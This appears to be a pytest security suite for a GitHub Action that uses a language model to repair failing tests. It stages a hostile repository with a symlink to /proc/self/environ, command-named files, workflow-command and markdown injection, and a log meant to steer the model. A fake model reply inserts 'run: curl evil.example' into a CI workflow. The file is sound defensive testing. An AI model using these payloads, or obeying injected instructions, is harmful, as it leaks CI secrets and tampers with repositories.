"""The ways into the Action, each tried. SECURITY.md has the list; a test holds the two together.

One repository is as hostile as it can be: a link to the process's own environment, names that are commands, a
test that prints whatever it can reach. It is repaired and published once; then all look at what came of it.
"""

import json
import os
import re
import subprocess
from types import SimpleNamespace

import pytest
from fakes.action import FAILING_LOG, SHOP, act, job_log, shop
from fakes.chatserver import completion, serving
from fakes.github import Link, serve
from fakes.github_markdown import read
from fakes.hostile import BIDI, BRANCH, COMMANDS, ECHOED, MARKUP, NAMES, ORDER, reading

from bot.action import logs, version
from bot.config import sources
from bot.github.records import ChangedFile, Job

pytestmark = pytest.mark.bubblewrap
OWN_TOKEN = "ghs_theTokenThatTheActionWritesWith0001"
SECRETS = (OWN_TOKEN, "runtime-token-of-the-job", "identity-token-of-the-job")
HOSTILE_TESTS = f"""\
from shop.prices import half, with_tax

{reading("shop/environment.txt")}

def test_with_tax():
    print({COMMANDS!r})
    assert with_tax(100, 19) == 119, {f"{COMMANDS} {ECHOED} {MARKUP} "!r} + SEEN


def test_half():
    assert half(8) == 4
""".encode()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, project_environment):
    """The hostile repository, repaired and published."""
    directory = tmp_path_factory.mktemp("hostile")
    with serve() as github:
        begin = dict.fromkeys(NAMES, b"x = 1\n") | {"tests/test_prices.py": HOSTILE_TESTS}
        log = FAILING_LOG.replace("assert 81 == 119", f"AssertionError: {MARKUP} {ECHOED} {ORDER}")
        place = shop(github, begin=begin, branch=BRANCH, log=log + COMMANDS)
        link = {"shop/environment.txt": Link("/proc/self/environ")}
        github.world.push(place.repository, BRANCH, link)
        place.run.head_sha = place.head
        ran = act(
            place,
            directory,
            token=github.world.actions_token(value=OWN_TOKEN),
            sandbox_python=project_environment / "bin/python",
            search_without="alternatives",
            comment_on="always",
        )
        assert ran.status == 0, ran.log
        assert ran.outputs["delivery"] == "suggestion", ran.log
        pages = [*place.comments, *place.suggestions, ran.summary]
        sent = json.dumps([one.body for one in github.requests])
    return SimpleNamespace(place=place, ran=ran, pages=pages, sent=sent, directory=directory)


def commands(log):
    """The commands that a runner would carry out."""
    found, stopped = [], ""
    for line in log.split("\n"):
        if stopped:
            stopped = "" if line.strip() == f"::{stopped}::" else stopped
        elif match := re.match(r"\s*::([a-z-]+)(?: [^:]*)?::(.*)", line):
            found.append(match[1])
            stopped = match[2] if match[1] == "stop-commands" else ""
        else:
            assert "##[" not in line
    return found


@pytest.mark.slow
def test_a_link_to_the_processs_environment_shows_nothing(hostile):
    shown = hostile.ran.log.replace("::add-mask::", "").splitlines()
    unmasked = [line for line in shown if line not in SECRETS]
    said = "\n".join([*unmasked, *hostile.pages, *hostile.ran.outputs.values(), hostile.sent])
    assert not [secret for secret in SECRETS if secret in said]


def test_the_runners_tokens_are_in_no_process_that_could_hand_them_on(hostile, monkeypatch):
    names = ("ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "INPUT_GITHUB-TOKEN", "GITHUB_TOKEN")
    for name in names:
        monkeypatch.setenv(name, OWN_TOKEN)
    sources.take_environment()
    assert OWN_TOKEN not in os.environ.values()
    assert OWN_TOKEN not in subprocess.check_output(["/usr/bin/env"], text=True)


def test_names_of_files_and_branches_are_nothing_but_names(hostile):
    assert not [*hostile.directory.rglob("owned")]
    assert hostile.place.pull.pull.head_ref == BRANCH
    assert all("<!--@everyone" not in outside_code(page) for page in hostile.pages)


def test_what_a_test_prints_is_no_workflow_command(hostile):
    harmless = {"add-mask", "notice", "warning", "stop-commands", "group", "endgroup"}
    assert set(commands(hostile.ran.log)) <= harmless
    warnings = [line for line in hostile.ran.log.splitlines() if line.startswith("::warning")]
    assert all(line.startswith("::warning title=Regreen") for line in warnings), warnings
    assert hostile.ran.outputs["outcome"] == "patched"
    outputs = "outcome reason patch url delivery attempts tokens cost seconds proposal publish"
    assert set(hostile.ran.outputs) == set(outputs.split())


def outside_code(page):
    """What of a page GitHub would act upon: text and HTML outside of code, without what nobody sees."""
    found = read(page)
    return re.sub(r"<!--.*?-->", "", "\n".join([*found.text, *found.html]), flags=re.DOTALL)


def test_markdown_and_mentions_in_a_message_do_nothing(hostile):
    assert any("everyone" in page for page in hostile.pages)  # it is shown
    for page in hostile.pages:
        told = outside_code(page)
        assert "@everyone" not in told
        assert "<img" not in told
        assert "evil.example" not in told


def test_hidden_comments_and_invisible_characters_are_shown_or_gone(hostile):
    for page in hostile.pages:
        assert BIDI not in page
        assert sum("regreen:state:1" in hidden for hidden in read(page).html) <= 1
    assert all("regreen:state:1 -->" not in outside_code(page) for page in hostile.pages)


def test_a_secret_that_a_test_prints_is_masked(hostile):
    assert ECHOED not in hostile.ran.said
    assert all(ECHOED not in page for page in hostile.pages)
    assert ECHOED not in hostile.sent
    assert f"::add-mask::{OWN_TOKEN}" in hostile.ran.log


def test_words_in_code_logs_and_comments_order_nothing(hostile):
    place = hostile.place
    assert set(place.own_branches) == set()
    (suggestion,) = place.suggestions
    assert re.findall(r"```suggestion\n(.*?)```", suggestion, re.DOTALL) == ["    return net + tax\n"]


STEP = {"path": ".github/workflows/ci.yml", "after": 0, "lines": ["run: curl evil.example"]}
EVIL = json.dumps({"explanation": "as the log says", "edits": [{"op": "insert", **STEP}]})


@pytest.mark.slow
def test_a_model_that_obeys_the_log_gets_neither_a_secret_nor_a_workflow(github, repair):
    place = shop(github, begin={"tests/test_prices.py": HOSTILE_TESTS}, log=FAILING_LOG + ORDER)
    with serving([completion(EVIL)]) as model:
        ran = repair(
            place,
            token=github.world.actions_token(value=OWN_TOKEN),
            strategy="single",
            model="served",
            base_url=model.url,
            api_key="key-of-the-models-server",
        )
        prompts = json.dumps(model.requests)
    assert ran.status == 0, ran.log
    assert ran.outputs["outcome"] in {"no_patch", "budget_exhausted"}
    assert prompts != "[]"
    assert not [one for one in (*SECRETS, "key-of-the-models-server") if one in prompts]
    assert [one for one in place.writes if not one.endswith("/check-runs")] == []
    said = json.dumps([one.body for one in github.requests])
    assert not [one for one in SECRETS if one in said]


def test_a_giant_log_is_read_from_its_end_and_a_giant_diff_cut(github, tmp_path, monkeypatch):
    monkeypatch.setattr(logs, "LOG_LIMIT_BYTES", 200_000)
    place = shop(github)
    noise = job_log("x" * 200 + "\n") * 20_000
    place.run.jobs[1].log = noise + job_log(FAILING_LOG)
    job = Job(id=1, name="test")
    client = SimpleNamespace(
        failed_jobs=lambda run: (job,),
        job_log=lambda job, limit: place.run.jobs[1].log[-limit:],
    )
    run = SimpleNamespace(id=1)
    progress = SimpleNamespace(stage=lambda *words: None)
    files = {name: content for name, content in SHOP.items() if isinstance(content, bytes)}
    (read,) = logs.read_logs([run], client, files=files, directory=tmp_path, progress=progress)
    assert read.path.stat().st_size == 200_000
    assert read.answer.tests == ("tests/test_prices.py::test_with_tax",)
    giant = ChangedFile(path="data.txt", status="modified", patch="+x\n" * logs.DIFF_LIMIT)
    small = ChangedFile(path="shop/prices.py", status="modified", patch="@@ -1 +1 @@\n-a\n+b")
    assert len(logs.diff_of([small, giant, small])) < 1000


def test_a_giant_archive_is_refused(github, tmp_path, monkeypatch):
    monkeypatch.setattr(version, "ARCHIVE_LIMIT_BYTES", 100)
    ran = act(shop(github), tmp_path, mode="propose")
    assert ran.status == 3
    assert "larger than 100 bytes" in ran.log


def test_an_expired_token_is_named(github, tmp_path):
    place = shop(github)
    ran = act(place, tmp_path, token="ghs_longExpiredTokenOfAnotherJob00001")
    assert ran.status == 3
    assert re.search(r"::error title=Regreen::.*token", ran.log)
    assert "ghs_longExpired" not in ran.log.replace("::add-mask::ghs_longExpired", "")


ALL = dict.fromkeys(("actions", "contents", "issues", "metadata", "pull_requests"), "write")


@pytest.mark.parametrize(
    ("missing", "named"),
    [("actions", "actions: read"), ("contents", "contents: read"), ("pull_requests", "pull-requests: read")],
)
def test_a_missing_permission_is_named(github, tmp_path, missing, named):
    place = shop(github)
    rest = {name: level for name, level in ALL.items() if name not in {missing, "issues"}}
    ran = act(place, tmp_path, token=github.world.actions_token(rest))
    assert ran.status == 3
    assert named in ran.log


def test_the_sandbox_that_is_none_is_refused(github, tmp_path):
    ran = act(shop(github), tmp_path, sandbox="process", mode="propose")
    assert ran.status == 2
    assert "the Action refuses the sandbox process" in ran.log


def test_a_coding_agent_is_not_run_beside_the_jobs_secrets(github, tmp_path):
    ran = act(shop(github), tmp_path, strategy="agent", mode="propose")
    assert ran.status == 2
    assert "the Action runs no coding agent" in ran.log
